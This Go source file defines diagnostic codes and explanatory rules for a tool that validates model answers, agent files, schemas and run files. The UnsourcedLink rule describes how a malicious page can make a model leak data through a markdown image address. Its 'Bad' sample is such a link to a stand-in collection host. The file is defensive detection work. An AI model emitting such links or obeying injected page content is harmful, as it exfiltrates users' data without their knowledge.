package diag

import "slices"

// Codes for JSON documents and answers (TA), schemas (TS) and run files (TR).
const (
	NotJSON               Code = "TA001"
	SchemaMismatch        Code = "TA002" // a value violates its schema
	FencedAnswer          Code = "TA003" // an answer in a fence
	ReasoningBeforeAnswer Code = "TA004" // reasoning before an answer
	NotYAML               Code = "TA005"
	UnknownKind           Code = "TA006" // a file whose kind cannot be detected
	UnsourcedLink         Code = "TA007" // a URL in an answer that occurs in no input or result of the run
	AnswerIsQuestion      Code = "TA008" // an answer that ends in a question
	AgentValue            Code = "TA009" // an invalid value of an agent file
	AgentReference        Code = "TA010" // a reference of an agent file is missing or invalid
	BadSchema             Code = "TS001"
	MisspelledKeyword     Code = "TS002" // a probable misspelling of a schema keyword
	RunDamaged            Code = "TR001" // damage in the middle
	RunTorn               Code = "TR002" // torn tail
	RunSequence           Code = "TR003" // a record out of sequence or of another run
	RunVersion            Code = "TR004"
	RunUnordered          Code = "TR005" // a record in an impossible place
)

// documentRules documents the TA, TS and TR codes.
var documentRules = slices.Concat(answerRules, runFileRules)

// answerRules documents the TA and TS codes.
var answerRules = []Rule{
	{
		Code: NotJSON, Slug: "not-json", Severity: Error,
		Title: "A text is not valid JSON",
		Text: "Exactly one strict JSON value is expected: no text around it, comments, trailing commas, duplicate keys or invalid UTF-8, at most " +
			"128 levels deep and no number of more than 1000 digits. Parsers disagree about everything else, so nothing is guessed.",
		Bad:  `{"answer": "yes",}`,
		Good: `{"answer": "yes"}`,
	},
	{
		Code: SchemaMismatch, Slug: "schema-mismatch", Severity: Error,
		Title: "A value does not match its schema",
		Text: "Each violation is one finding, with the value's JSON pointer and span. If the schema allows alternatives, only the violations of the " +
			"most likely one are reported. Formats such as date-time are checked.",
		Bad:  `{"price": "12"}  against  {"properties": {"price": {"type": "number"}}}`,
		Good: `{"price": 12}  against  {"properties": {"price": {"type": "number"}}}`,
	},
	{
		Code: FencedAnswer, Slug: "fenced-answer", Severity: Warning,
		Title: "An answer is in a code fence",
		Text: "The answer must be JSON only. A fence around the whole answer is removed, because that changes nothing; text outside the fence " +
			"is not.",
		Bad:  "```json\n{\"answer\": \"yes\"}\n```",
		Good: `{"answer": "yes"}`,
		Fix:  Safe,
	},
	{
		Code: UnsourcedLink, Slug: "unsourced-link", Severity: Warning,
		Title: "An answer links to an address that the run never saw",
		Text: "The address is in no result and no input, and neither the user nor a definition mentions its host. A malicious page can make a " +
			"model put data into an image address, which leaks the data when the answer is displayed. oneshot fetches nothing here and does " +
			"not change the answer.",
		Bad:  `{"answer": "![chart](https://collect.example/?d=q3-results)"}`,
		Good: `{"answer": "The results of the third quarter are in q3.md."}`,
	},
	{
		Code: AnswerIsQuestion, Slug: "answer-is-question", Severity: Warning,
		Title: "An answer ends in a question",
		Text: "The run had no schema, and its answer ends with a question mark. Nobody can reply before the run ends, so the work may be " +
			"unfinished. A run with tools offers ask_user, which ends the run with exit code 8 and resumes with --answer. A schema states what an " +
			"answer must contain.",
		Bad:  `{"answer": "Which city do you leave from?"}`,
		Good: `{"answer": "The train leaves Berlin at 9:04."}`,
	},
	{
		Code: AgentValue, Slug: "agent-value", Severity: Error,
		Title: "A value of an agent file is invalid",
		Text: "The value has the right type, but the file contradicts itself or asks for what only a command line can: a default that does not fit its " +
			"variable, a placeholder that vars does not declare, a prompt beside a prompt file, a replay as the model.",
		Bad:  `{"version": 1, "vars": {"since": {"type": "string"}}, "prompt": "What changed since ${tag}?"}`,
		Good: `{"version": 1, "vars": {"since": {"type": "string"}}, "prompt": "What changed since ${since}?"}`,
	},
	{
		Code: AgentReference, Slug: "agent-reference", Severity: Error,
		Title: "An agent file refers to something that is missing or invalid",
		Text: "A file does not exist, is outside of the folders that the agent may name, or is itself invalid; or no tool has that name. A run " +
			"with such an agent file ends with exit code 3 if a file does not exist, otherwise with 2.",
		Bad:  `{"version": 1, "system": "no-such-file.md"}`,
		Good: `{"version": 1}`,
	},
	{
		Code: ReasoningBeforeAnswer, Slug: "reasoning-before-answer", Severity: Warning,
		Title: "An answer has reasoning before it",
		Text:  "The answer must be JSON only. Reasoning that a model has marked before it is removed, because it is not part of the answer; other text is not.",
		Bad:   "<think>Is it?</think>{\"answer\": \"yes\"}",
		Good:  `{"answer": "yes"}`,
		Fix:   Safe,
	},
	{
		Code: NotYAML, Slug: "not-yaml", Severity: Error,
		Title: "A text is not valid YAML, or uses unsupported YAML",
		Text: "Agent files and policies use the part of YAML that JSON can express, and comments. Anchors, aliases, merge keys and tags are " +
			"rejected, because they make values look like something else, and so are duplicate keys. Write numbers as in JSON. The file must be " +
			"UTF-8, at most 1 MiB, with one document.",
		Bad:  "version: 1\nmodel: &m ollama/qwen3:8b\nresponder: *m",
		Good: "version: 1\nmodel: ollama/qwen3:8b\nresponder: ollama/qwen3:8b",
	},
	{
		Code: UnknownKind, Slug: "unknown-kind", Severity: Error,
		Title: "The kind of a file cannot be detected",
		Text: "The kind is detected from the top-level keys, even in a broken file. Too few keys belong to one kind, or they belong to another " +
			"program, so the file is not checked: a wrong guess would report faults that do not exist. Name the kind with --as, or skip such " +
			"files with --ignore unknown-kind.",
		Bad:  "name: tests\non: [push]\njobs: {}",
		Good: "version: 1\nmodel: ollama/qwen3:8b",
	},
	{
		Code: BadSchema, Slug: "bad-schema", Severity: Error,
		Title: "A schema is not a valid JSON Schema",
		Text: "Schemas use JSON Schema 2020-12, or an older draft that they declare. The whole schema must be valid: known types, patterns that are " +
			"regular expressions (RE2), and references that resolve. References to other documents are never followed, because a schema must not " +
			"reach files or hosts.",
		Bad:  `{"properties": {"price": {"type": "numbr"}}}`,
		Good: `{"properties": {"price": {"type": "number"}}}`,
	},
	{
		Code: MisspelledKeyword, Slug: "misspelled-keyword", Severity: Warning,
		Title: "A schema keyword is probably misspelled",
		Text: "JSON Schema ignores unknown keywords, so a misspelled one has no effect: values that it should reject are accepted. Only keywords " +
			"similar to a known one are reported; others count as annotations.",
		Bad:  `{"proprties": {"price": {"type": "number"}}}`,
		Good: `{"properties": {"price": {"type": "number"}}}`,
	},
}
